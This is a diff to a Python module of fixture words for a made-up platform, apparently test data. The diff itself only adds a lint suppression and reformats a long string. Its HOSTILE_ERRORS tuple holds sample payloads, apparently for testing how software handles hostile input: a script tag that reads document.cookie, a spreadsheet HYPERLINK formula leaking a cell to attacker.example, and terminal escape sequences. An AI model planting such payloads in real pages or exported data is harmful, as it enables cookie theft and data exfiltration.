@@ -1,5 +1,7 @@
 """The words of the made-up platform: companies, people, repositories, issues."""
 
+# ruff: noqa: SIM905 (words are easier to read in lines than in quotes)
+
 COMPANY_FIRST = (
     "Acme Alder Amber Anchor Apex Arbor Arctic Argent Aspen Atlas Aurora Basalt Beacon Birch "
     "Blackwater Bluebird Boreal Bramble Bright Bronze Cairn Canopy Cascade Cedar Cinder Citrine "
@@ -134,6 +136,8 @@ PARSE_ERRORS = (
 HOSTILE_ERRORS = (
     "Unexpected token '<', \"<script>alert(document.cookie)</script>\"... is not valid JSON",
     '=HYPERLINK("https://attacker.example/?leak="&A1,"Sync details")',
-    "Unexpected token '{', \"{\"message\":\"" + "upstream connect error or disconnect; " * 160 + "\"}\"",
+    'Unexpected token \'{\', "{"message":"'
+    + "upstream connect error or disconnect; " * 160
+    + '"}"',
     "Unexpected token '\x1b', \"\x1b[31mBad gateway\x1b[0m\r\nRetry later\"... is not valid JSON",
 )
